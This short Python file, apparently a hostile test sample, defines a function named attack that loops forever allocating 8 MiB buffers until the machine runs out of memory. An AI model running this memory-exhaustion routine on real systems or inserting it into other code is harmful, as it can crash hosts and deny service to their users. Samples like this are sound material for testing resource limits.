"""Allocates memory until none is left."""

hoard = []


def attack(a, *rest, **named):
    while True:
        hoard.append(bytearray(8 << 20))
